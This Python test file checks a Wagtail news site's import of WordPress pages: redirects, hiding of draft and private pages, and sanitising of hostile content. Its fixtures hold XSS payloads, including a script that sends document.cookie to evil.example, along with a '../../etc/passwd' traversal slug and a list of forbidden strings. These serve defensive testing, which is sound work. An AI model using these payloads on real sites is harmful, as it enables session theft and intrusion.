# ruff: noqa: E501 (sample WordPress content, as the editor writes it, on long lines)
"""WordPress pages become information pages: `?page_id=ID` and their old address answer 301,
never for a page the public could not read in WordPress."""

import json

import pytest
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Revision

from manchette.core.site_structure import home_page
from manchette.news.models import ArticlePage, InfoPage

from . import wxr_builder as w
from .conftest import run_import, sample_elements

pytestmark = pytest.mark.django_db

HOSTILE = """<!-- wp:paragraph -->
<p>Directeur de la publication : Jeanne Martin.</p>
<!-- /wp:paragraph -->

<!-- wp:html -->
<script>document.location='https://evil.example/?c='+document.cookie</script><p onmouseover="steal()">Hébergeur : <a href="javascript:alert(1)">Hébergeur SAS</a></p><iframe src="javascript:alert(2)"></iframe><style>body{display:none}</style><img src=x onerror="alert(3)"><a href="data:text/html,<script>alert(4)</script>">données</a>
<!-- /wp:html -->"""


def page(page_id, title, content, slug, status="publish", **kwargs):
    kwargs.setdefault("link", f"{w.SITE}/{slug}/")
    return w.item(page_id, title, content, post_type="page", slug=slug, status=status, **kwargs)


def page_elements():
    return [
        *sample_elements(),  # with the published page 200, « À propos » at /a-propos/
        page(
            201,
            "Mentions légales",
            HOSTILE,
            "mentions-legales",
            metas=[("_wp_old_slug", "mentions")],
        ),
        page(
            202, "L’équipe", "<p>Nos journalistes.</p>", "equipe", link=f"{w.SITE}/a-propos/equipe/"
        ),
        page(
            203, "Projet secret", "<p>Brouillon confidentiel.</p>", "projet-secret", status="draft"
        ),
        page(204, "Page privée", "<p>Réservé aux membres.</p>", "page-privee", status="private"),
        page(
            205, "Page protégée", "<p>Derrière un mot de passe.</p>", "page-protegee", password="x"
        ),
        page(206, "En relecture", "<p>À relire.</p>", "page-en-relecture", status="pending"),
        page(
            207,
            "Annonce à venir",
            "<p>Surprise.</p>",
            "annonce",
            status="future",
            date="2030-01-01 08:00:00",
        ),
        page(208, "Supprimée", "<p>Corbeille.</p>", "supprimee", status="trash"),
        page(209, "Rechercher", "<p>Notre moteur.</p>", "recherche"),  # one of our routes
        page(210, "Politique éditoriale", "<p>Nos règles.</p>", "politique"),  # a rubrique's
        page(211, "Charte", "<p>La charte de WordPress.</p>", "charte"),
        page(
            212,
            "Nous contacter",
            "<p>Écrivez-nous.</p>",
            "contact",
            metas=[
                ("_yoast_wpseo_title", "Contact : 100 % local"),
                ("_yoast_wpseo_metadesc", "Nous écrire."),
            ],
        ),
        w.item(
            120, "Renvoi", '<p>Voir <a href="/?page_id=201">les mentions</a>.</p>', slug="renvoi"
        ),
    ]


@pytest.fixture
def pages_export(tmp_path):
    path = tmp_path / "pages.xml"
    path.write_text(w.document(*page_elements()), encoding="utf-8")
    return path


@pytest.fixture
def charte():
    """A page the newsroom wrote in Manchette before importing."""
    ours = InfoPage(title="Notre charte", slug="charte")
    home_page().add_child(instance=ours)
    ours.save_revision().publish()
    return ours


def location(client, url):
    response = client.get(url)
    return response.status_code, response.get("Location")


def test_published_pages_answer_at_their_address_and_old_ones_redirect(
    pages_export, client, charte
):
    code, out = run_import(pages_export)
    assert code == 0, out
    about = InfoPage.objects.get(slug="a-propos")
    assert about.live and about.title == "À propos"
    assert about.get_parent().specific == home_page()
    response = client.get("/a-propos/")  # its old address: the page itself, no redirect
    assert response.status_code == 200 and "Qui sommes-nous." in response.content.decode()
    for old, new in {
        "/?page_id=200": "/a-propos/",
        "/?p=200": "/a-propos/",
        "/?page_id=201": "/mentions-legales/",
        "/mentions/": "/mentions-legales/",  # a former slug
        "/a-propos/equipe/": "/equipe/",  # a child page: under the home page here
        "/?page_id=202": "/equipe/",
        "/?page_id=209": "/recherche-page/",  # our search's address: suffixed, reported
        "/?page_id=210": "/politique-2/",  # the rubrique's: suffixed, reported
        "/?page_id=211": "/charte/",  # ours, adopted
    }.items():
        assert location(client, old) == (301, new), old
    assert "adresse « recherche » prise, devenue « recherche-page »" in out
    assert client.get("/recherche-page/").status_code == 200
    contact = InfoPage.objects.get(slug="contact")
    assert (contact.seo_title, contact.search_description) == (
        "Contact : 100 % local",
        "Nous écrire.",
    )
    # A post's link to a page leads to the page.
    link = ArticlePage.objects.get(slug="renvoi").body[0].value.source
    assert f'id="{InfoPage.objects.get(slug="mentions-legales").pk}" linktype="page"' in link


def test_hostile_page_content_never_reaches_the_page(pages_export, client, tmp_path):
    report = tmp_path / "report.json"
    run_import(pages_export, extra=["--report", str(report)])
    html = client.get("/mentions-legales/").content.decode()
    assert "Directeur de la publication : Jeanne Martin." in html and "Hébergeur" in html
    for forbidden in ("evil.example", "document.cookie", "onmouseover", "onerror", "javascript:",
                      "data:text/html", "display:none", "alert(", "<!-- wp:"):  # fmt: skip
        assert forbidden not in html, forbidden
    dropped = json.loads(report.read_text())["html_dropped"]
    assert 201 in dropped["<script>"]["samples"] and 201 in dropped["attribut on*"]["samples"]


def test_unpublished_pages_are_drafts_no_old_address_leads_to(pages_export, client):
    run_import(pages_export)
    home = client.get("/").content.decode()
    for wp_id, slug in ((203, "projet-secret"), (204, "page-privee"), (205, "page-protegee"),
                        (206, "page-en-relecture"), (207, "annonce")):  # fmt: skip
        draft = InfoPage.objects.get(slug=slug)
        assert not draft.live, slug
        for old in (f"/?page_id={wp_id}", f"/?p={wp_id}", f"/?page_id={wp_id}&preview=true"):
            response = client.get(old)
            # As an unknown id: the home page, without a word of the page or its address.
            assert (response.status_code, response.get("Location")) == (200, None), old
            assert response.content.decode() == home, old
        assert client.get(f"/{slug}/").status_code == 404, slug
    assert InfoPage.objects.get(slug="annonce").go_live_at.year == 2030
    assert not InfoPage.objects.filter(slug="supprimee").exists()
    assert client.get("/?page_id=208").status_code == 200
    for hidden in (
        "Brouillon confidentiel",
        "Réservé aux membres",
        "Derrière un mot de passe",
        "Surprise",
    ):
        for url in ("/sitemap-1.xml", "/recherche/?q=confidentiel", "/flux/"):
            assert hidden not in client.get(url).content.decode(), (url, hidden)


def test_a_second_run_changes_no_page_and_edits_are_kept(pages_export, charte, tmp_path):
    run_import(pages_export)
    charte.refresh_from_db()
    assert charte.title == "Notre charte"  # adopted, not overwritten
    counts = [m.objects.count() for m in (InfoPage, Revision, Redirect)]
    report = tmp_path / "second.json"
    assert run_import(pages_export, extra=["--report", str(report)])[0] == 0
    assert counts == [m.objects.count() for m in (InfoPage, Revision, Redirect)]
    kinds = json.loads(report.read_text())["kinds"]["page"]
    assert (kinds["created"], kinds["updated"], kinds["adopted"]) == (0, 0, 0)
    assert kinds["unchanged"] == 12
    # Edited here since: kept, reported. Changed in WordPress only: updated.
    edited = InfoPage.objects.get(slug="equipe")
    edited.title = "La rédaction au complet"
    edited.save_revision().publish()
    text = pages_export.read_text()
    for before, after in (("L’équipe", "Équipe WordPress"), ("Nos règles.", "Nos nouvelles règles."),
                          ("La charte de WordPress.", "La charte changée")):  # fmt: skip
        text = text.replace(before, after)
    pages_export.write_text(text)
    code, out = run_import(pages_export)
    assert code == 0
    assert InfoPage.objects.get(slug="equipe").title == "La rédaction au complet"
    assert "Nos nouvelles règles." in InfoPage.objects.get(slug="politique-2").body[0].value.source
    assert InfoPage.objects.get(slug="charte").title == "Notre charte"
    assert "Modifié depuis l’import, laissé tel quel : page 202" in out
    assert "Modifié depuis l’import, laissé tel quel : page 211" in out


def test_hostile_page_fields_and_a_page_made_private_later(pages_export, client):
    hostile = [
        page(220, "<script>alert('titre')</script>Titre", "<p>Texte.</p>", "admin"),
        page(221, "Chemin", "<p>Chemin.</p>", "../../etc/passwd", link=f"{w.SITE}/chemin/"),
        page(222, "Guid", "<p>Guid.</p>", "guid").replace(
            f"{w.SITE}/?p=222</guid>", "javascript:alert(1)</guid>"
        ),
    ]
    text = pages_export.read_text().replace(w.TAIL, "".join(hostile) + w.TAIL)
    pages_export.write_text(text)
    assert run_import(pages_export)[0] == 0
    titled = InfoPage.objects.get(slug="admin-page")  # not under the admin's address
    html = client.get(titled.url).content.decode()
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    assert InfoPage.objects.get(title="Chemin").slug == "etcpasswd"
    assert location(client, "/?page_id=221") == (301, "/etcpasswd/")
    assert location(client, "/?page_id=222") == (301, "/guid/")  # not its guid's address
    # Made private in WordPress since: the next run unpublishes it, and ?page_id= stops.
    text = pages_export.read_text()
    start = text.index("<wp:post_id>200</wp:post_id>")
    status = text.index("<wp:status><![CDATA[publish]]>", start)
    text = text[:status] + "<wp:status><![CDATA[private]]>" + text[status + 30 :]
    pages_export.write_text(text)
    assert run_import(pages_export)[0] == 0
    assert not InfoPage.objects.get(slug="a-propos").live
    assert location(client, "/?page_id=200") == (200, None)
    assert client.get("/a-propos/").status_code == 404
